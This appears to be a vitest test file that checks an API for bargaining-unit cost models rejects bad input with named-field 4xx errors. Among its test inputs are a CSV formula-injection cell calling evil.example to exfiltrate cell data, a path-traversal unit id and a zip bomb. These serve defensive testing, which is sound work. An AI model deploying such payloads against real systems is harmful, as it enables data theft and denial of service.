// A corpus of bad input: each gets a 4xx application/problem+json naming the field; never a 5xx.
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { client, type Reply } from '../server/support/http.js';
import { sampleScenario } from '../server/support/sampleScenario.js';
import { seedBasics } from '../server/support/seed.js';
import { startTestServer, type TestServer } from '../server/support/testServer.js';
import { sqliteTestDatabase, type TestDatabase } from '../server/support/testStores.js';
import { zipOf } from '../server/support/zipFile.js';

let db: TestDatabase;
let server: TestServer;
let tokens: Record<string, string>;
const replies: Reply[] = [];
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

beforeAll(async () => {
  db = await sqliteTestDatabase();
  tokens = (await seedBasics(db.store)).tokens;
  server = await startTestServer({ store: db.store, config: { bodyLimit: '300kb', importBodyLimit: '1mb' } });
});
afterAll(async () => {
  await server?.close();
  await db?.dispose();
});

async function send(who: string, method: string, path: string, body?: unknown, headers?: Record<string, string>): Promise<Reply> {
  const reply = await client(server.url, tokens[who])(method, path, body, headers);
  replies.push(reply);
  return reply;
}

function expectProblem(reply: Reply, status: number, path?: string | RegExp): void {
  expect(reply.status, reply.text.slice(0, 400)).toBe(status);
  expect(reply.headers.get('content-type')).toContain('application/problem+json');
  expect(reply.body).toMatchObject({
    status,
    title: expect.any(String),
    detail: expect.any(String),
    type: expect.stringMatching(/^urn:bargaining-costing:problem:/),
  });
  if (path !== undefined) {
    const paths = (reply.body.errors ?? []).map((e: { path: string }) => e.path);
    if (typeof path === 'string') expect(paths).toContain(path);
    else
      expect(
        paths.some((p: string) => path.test(p)),
        JSON.stringify(reply.body.errors),
      ).toBe(true);
  }
}

afterEach(() => {
  for (const r of replies) expect(r.status).toBeLessThan(500);
  replies.length = 0;
});

describe('bad JSON bodies', () => {
  it('malformed JSON → 400 naming the body', async () => {
    const reply = await send('analyst', 'POST', '/cost-models', '{"unitId": "A", "title": ', { 'content-type': 'application/json' });
    expectProblem(reply, 400, 'body');
    expect(reply.body.title).toBe('Malformed JSON');
  });

  it('a JSON array or string where an object belongs → 400', async () => {
    expectProblem(await send('analyst', 'POST', '/cost-models', '[1,2]', { 'content-type': 'application/json' }), 400, 'body');
    expectProblem(await send('analyst', 'POST', '/cost-models', '"text"', { 'content-type': 'application/json' }), 400, 'body');
  });

  it('wrong types → 400 naming the field and the reason', async () => {
    const reply = await send('analyst', 'POST', '/cost-models', { unitId: 'A', title: 5, scenario: sampleScenario('A') });
    expectProblem(reply, 400, 'body.title');
    const s = sampleScenario('A') as any;
    s.roster.rows[1].step = 'two';
    s.schedule.classes[0].steps[0] = 45.12;
    const deep = await send('analyst', 'POST', '/cost-models', { unitId: 'A', title: 't', scenario: s });
    expectProblem(deep, 400, 'scenario.roster.rows[1].step');
    const money = deep.body.errors.find((e: { path: string }) => e.path === 'scenario.schedule.classes[0].steps[0]');
    expect(money.message).toMatch(/decimal string/);
  });

  it('a whole number written as a JSON float (hoursPerYear 2080.0) → 400 naming the field (COSTING.md §1)', async () => {
    const text = JSON.stringify({ unitId: 'A', title: 't', scenario: sampleScenario('A') }).replace('"hoursPerYear":2080', '"hoursPerYear":2080.0');
    expect(text).toContain('"hoursPerYear":2080.0');
    const reply = await send('analyst', 'POST', '/cost-models', text, { 'content-type': 'application/json' });
    expectProblem(reply, 400, 'scenario.schedule.hoursPerYear');
    expect(reply.body.errors[0].message).toBe(
      '2080.0 is a JSON float (COSTING.md §1): write 2080 where a whole number belongs, or "2080.0" where a decimal does',
    );
  });

  it('unknown fields → 400 naming the key', async () => {
    const top = await send('analyst', 'POST', '/cost-models', { unitId: 'A', title: 't', scenario: sampleScenario('A'), priority: 'high' });
    expectProblem(top, 400);
    expect(JSON.stringify(top.body.errors)).toMatch(/priority/);
    const s = sampleScenario('A') as any;
    s.roster.rows[0].salary = '100000';
    const deep = await send('analyst', 'POST', '/cost-models', { unitId: 'A', title: 't', scenario: s });
    expectProblem(deep, 400, 'scenario.roster.rows[0].salary');
    expect(JSON.stringify(deep.body.errors)).toMatch(/salary/);
  });

  it('a roster with impossible steps → 400 naming the row and step', async () => {
    const s = sampleScenario('A') as any;
    s.roster.rows[2].step = 9;
    s.roster.rows[3].step = 0;
    const reply = await send('analyst', 'POST', '/cost-models', { unitId: 'A', title: 't', scenario: s });
    expectProblem(reply, 400, 'scenario.roster.rows[2].step');
    expect(reply.body.errors.find((e: { path: string }) => e.path === 'scenario.roster.rows[2].step').message).toMatch(
      /step 9 does not exist in class PO \(5 steps\)/,
    );
    expect(reply.body.errors.map((e: { path: string }) => e.path)).toContain('scenario.roster.rows[3].step');
  });

  it('a malformed row does not hide a costing-time problem in another: both in one 400', async () => {
    const s = sampleScenario('A') as any;
    s.roster.rows[2].step = 0;
    s.roster.rows[1].pensionTier = 'Classic';
    const reply = await send('analyst', 'POST', '/cost-models', { unitId: 'A', title: 't', scenario: s });
    expectProblem(reply, 400, 'scenario.roster.rows[2].step');
    expect(reply.body.errors.find((e: { path: string }) => e.path === 'scenario.roster.rows[1].pensionTier').message).toMatch(
      /^pension tier `Classic` has no rates in assumptions.pension \(row [^)]+\); tiers with rates: /,
    );
  });

  it('a scenario for another unit → 400 at scenario.unit.id', async () => {
    expectProblem(await send('analyst', 'POST', '/cost-models', { unitId: 'A', title: 't', scenario: sampleScenario('B') }), 400, 'scenario.unit.id');
  });

  it('an oversized body → 413', async () => {
    const s = sampleScenario('A', 3000);
    const reply = await send('analyst', 'POST', '/cost-models', { unitId: 'A', title: 'big', scenario: s });
    expectProblem(reply, 413, 'body');
  });

  it('bad query parameters → 400 naming them', async () => {
    expectProblem(await send('analyst', 'GET', '/units/A/schedules/current?asOf=2026-02-30'), 400, 'query.asOf');
    expectProblem(await send('analyst', 'GET', '/schedules/changes?since=abc'), 400, 'query.since');
    expectProblem(await send('analyst', 'GET', '/cost-models?state=lost'), 400, 'query.state');
    expectProblem(await send('analyst', 'GET', '/cost-models?color=red'), 400, /query/);
    // Given twice, a parameter that takes one value says so (it was called "required").
    const twice = await send('analyst', 'GET', '/cost-models?unitId=A&unitId=B');
    expectProblem(twice, 400, 'query.unitId');
    expect(twice.body.errors).toEqual([{ path: 'query.unitId', message: 'is given 2 times: give it once' }]);
  });

  it('an unknown route or id → 404; an invalid unit id → 400', async () => {
    expectProblem(await send('analyst', 'GET', '/nothing-here'), 404);
    expectProblem(await send('analyst', 'GET', '/cost-models/00000000-0000-0000-0000-000000000000'), 404);
    expectProblem(await send('admin', 'GET', '/units/..%2F..%2Fetc/schedules'), 400, 'unitId');
  });

  it('a path served with another method → 405 with Allow, not "no route"', async () => {
    const patch = await send('analyst', 'PATCH', '/cost-models/00000000-0000-0000-0000-000000000000', {});
    expectProblem(patch, 405);
    expect(patch.headers.get('allow')).toBe('GET, HEAD, PUT');
    expect(patch.body.detail).toBe('PATCH is not a method of /cost-models/00000000-0000-0000-0000-000000000000: use GET, HEAD, PUT');
    const post = await send('analyst', 'POST', '/units/A/schedules/current', {});
    expectProblem(post, 405);
    expect(post.headers.get('allow')).toBe('GET, HEAD');
  });

  it('a text field given another type says it must be text, not that it is required', async () => {
    const title = await send('analyst', 'POST', '/cost-models', { unitId: 'A', title: 5, scenario: sampleScenario('A') });
    expect(title.body.errors).toContainEqual({ path: 'body.title', message: 'must be text (a JSON string)' });
    const missing = await send('analyst', 'POST', '/cost-models', { unitId: 'A', scenario: sampleScenario('A') });
    expect(missing.body.errors).toContainEqual({ path: 'body.title', message: 'required' });
    const name = await send('admin', 'POST', '/users', { id: 'x1', name: 5, role: 'analyst', units: ['A'] });
    expectProblem(name, 400, 'body.name');
    expect(name.body.errors.find((e: { path: string }) => e.path === 'body.name').message).toBe('must be text (a JSON string)');
  });

  it('user and unit administration validates its input', async () => {
    expectProblem(await send('admin', 'POST', '/users', { name: 'X', role: 'boss' }), 400, 'body.role');
    expectProblem(await send('admin', 'POST', '/users', { name: 'X', role: 'analyst', units: ['NOPE'] }), 400, 'units[0]');
    expectProblem(await send('admin', 'POST', '/units', { id: 'A', name: 'dup' }), 409);
    expectProblem(await send('admin', 'POST', '/users/nobody/tokens', {}), 404);
  });
});

describe('bad schedule imports', () => {
  it('a JSON schedule with a float rate, or a duplicate class → 400 naming them', async () => {
    const float = await send('admin', 'POST', '/units/A/schedules/import?dryRun=true', {
      id: 'X',
      effective: '2026-07-01',
      classes: [{ code: 'PO', steps: ['1.00', 2.5] }],
    });
    expectProblem(float, 400, 'schedule.classes[0].steps[1]');
    const duplicate = await send('admin', 'POST', '/units/A/schedules/import?dryRun=true', {
      id: 'X',
      effective: '2026-07-01',
      classes: [
        { code: 'PO', steps: ['1.00'] },
        { code: 'PO', steps: ['3.00'] },
      ],
    });
    expectProblem(duplicate, 400, 'schedule.classes[1].code');
  });

  it('a non-admin is refused before the body is read: malformed JSON from a negotiator is a 403, not a parse error', async () => {
    const reply = await send('negotiator', 'POST', '/units/A/schedules/import', '{"classes": [', { 'content-type': 'application/json' });
    expectProblem(reply, 403);
    expect(reply.body.detail).toMatch(/admin/);
  });

  it('an unsupported media type → 415', async () => {
    expectProblem(await send('admin', 'POST', '/units/A/schedules/import', 'PO,1,2', { 'content-type': 'text/plain' }), 415);
    // JSON in another charset is refused, not decoded as UTF-8 into nonsense.
    const utf16 = Buffer.from(JSON.stringify({ unitId: 'A', title: 't', scenario: sampleScenario('A') }), 'utf16le');
    const declared = await send('analyst', 'POST', '/cost-models', utf16, { 'content-type': 'application/json; charset=utf-16le' });
    expectProblem(declared, 415);
    expect(declared.body.detail).toBe('the body is declared utf-16le: send JSON in UTF-8 (charset=utf-8, or no charset)');
  });

  it('valid JSON that is not an object (null, a string) → 400 saying what the body must be, not "not valid JSON"', async () => {
    for (const body of ['null', '"x"']) {
      const reply = await send('admin', 'POST', '/units/A/schedules/import', body, { 'content-type': 'application/json' });
      expectProblem(reply, 400, 'body');
      expect(reply.body.title).toBe('Invalid input');
    }
  });

  it('a CSV without ?effective → 400 naming query.effective', async () => {
    expectProblem(
      await send('admin', 'POST', '/units/A/schedules/import', 'Class,Title,Step 1\nPO,Officer,45.12\n', { 'content-type': 'text/csv' }),
      400,
      'query.effective',
    );
  });

  it('a CSV with formula injection → 400 naming the cell', async () => {
    const csv = 'Class,Title,Step 1,Step 2\nPO,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",45.12,47.38\n';
    const reply = await send('admin', 'POST', '/units/A/schedules/import?effective=2026-07-01&dryRun=true', csv, { 'content-type': 'text/csv' });
    expectProblem(reply, 400, /CSV!B2/);
    expect(JSON.stringify(reply.body.errors)).toMatch(/formula/i);
  });

  it('an XLSX that is not a zip → 400', async () => {
    const reply = await send('admin', 'POST', '/units/A/schedules/import?effective=2026-07-01', Buffer.from('Class,Step 1\nPO,45.12\n'), {
      'content-type': XLSX,
    });
    expectProblem(reply, 400);
    expect(reply.body.detail).toMatch(/zip|XLSX/i);
  });

  it('a zip that is not a workbook → 400', async () => {
    const zip = zipOf([{ name: 'readme.txt', data: Buffer.from('hello') }]);
    const reply = await send('admin', 'POST', '/units/A/schedules/import?effective=2026-07-01', zip, { 'content-type': XLSX });
    expectProblem(reply, 400);
  });

  it('a zip bomb → 400 before it is inflated', async () => {
    const bomb = zipOf([
      { name: '[Content_Types].xml', data: Buffer.from('<Types/>') },
      { name: 'xl/worksheets/sheet1.xml', data: Buffer.alloc(40 * 1024 * 1024, 0x20) },
    ]);
    expect(bomb.length).toBeLessThan(1024 * 1024);
    const reply = await send('admin', 'POST', '/units/A/schedules/import?effective=2026-07-01', bomb, { 'content-type': XLSX });
    expectProblem(reply, 400);
    expect(reply.body.detail).toMatch(/inflate|compress|large|bomb|ratio/i);
  });

  it('an upload over the import limit → 413', async () => {
    const reply = await send('admin', 'POST', '/units/A/schedules/import?effective=2026-07-01', Buffer.alloc(2 * 1024 * 1024, 0x41), { 'content-type': XLSX });
    expectProblem(reply, 413);
  });
});
